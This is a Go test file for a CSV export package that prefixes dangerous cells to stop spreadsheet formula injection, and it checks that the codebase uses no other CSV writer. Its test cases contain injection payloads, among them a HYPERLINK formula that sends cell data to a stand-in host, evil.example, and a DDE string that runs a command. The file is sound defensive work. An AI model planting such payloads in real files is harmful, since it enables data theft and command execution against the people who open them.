package csvexport

import (
	"bytes"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestCell(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"", ""},
		{"Nova Hoodie", "Nova Hoodie"},
		{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, `'=HYPERLINK("http://evil.example/?x="&A1,"click")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"\x00=1", "'\x00=1"},
		{"a=1", "a=1"},
		{"'=1", "'=1"},
		// Plain numbers, as the numeric path writes them, stay numbers.
		{"-12.50", "-12.50"},
		{"-3", "-3"},
		{"0.1234", "0.1234"},
		{"1234", "1234"},
		// Anything else starting with '-' is text.
		{"-", "'-"},
		{"-.5", "'-.5"},
		{"-5.", "'-5."},
		{"-1e5", "'-1e5"},
		{"-1.2.3", "'-1.2.3"},
		{"+5", "'+5"},
	} {
		if got := Cell(c.in); got != c.want {
			t.Errorf("Cell(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

func TestWriter(t *testing.T) {
	var b bytes.Buffer
	w := NewWriter(&b)
	w.Write([]string{"name", "net"})
	w.Write([]string{`=HYPERLINK("http://evil.example/","x")`, "-4.20"})
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	want := "name,net\n\"'=HYPERLINK(\"\"http://evil.example/\"\",\"\"x\"\")\",-4.20\n"
	if b.String() != want {
		t.Errorf("got %q, want %q", b.String(), want)
	}
}

// TestEveryCSVWriterIsThisOne fails when code outside this package makes
// its own encoding/csv writer: every CSV the product writes must neutralise
// formulas, so every one goes through Writer.
func TestEveryCSVWriterIsThisOne(t *testing.T) {
	// Writers whose CSV never leaves the process, so formula
	// neutralising would only corrupt values (a leading "-" of an amount).
	internal := map[string]string{
		"internal/worker/pull.go":                           "turns a pulled JSON file into CSV for the importer",
		"internal/connector/woocommerce/wootest/wootest.go": "a fake store's orders export, written as WooCommerce's extension writes it, for import tests (item_refunded_qty is negative)",
		"internal/forecast/reval.go":                        "the series the forecast evaluation hands to R's ets() (negative values must stay numbers)",
	}
	used := map[string]bool{}
	root := filepath.Join("..", "..")
	err := filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() && (d.Name() == "testdata" || strings.HasPrefix(d.Name(), ".")) && path != root {
			return filepath.SkipDir
		}
		if d.IsDir() || !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") || filepath.Base(filepath.Dir(path)) == "csvexport" {
			return nil
		}
		b, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		rel := filepath.ToSlash(strings.TrimPrefix(path, root+string(filepath.Separator)))
		if _, ok := internal[rel]; ok {
			used[rel] = true
			return nil
		}
		if bytes.Contains(b, []byte("csv.NewWriter(")) {
			t.Errorf("%s makes its own csv.Writer: use csvexport.NewWriter", path)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	for f := range internal {
		if !used[f] {
			t.Errorf("%s is allowed its own csv.Writer but no longer exists: drop it from the list", f)
		}
	}
}
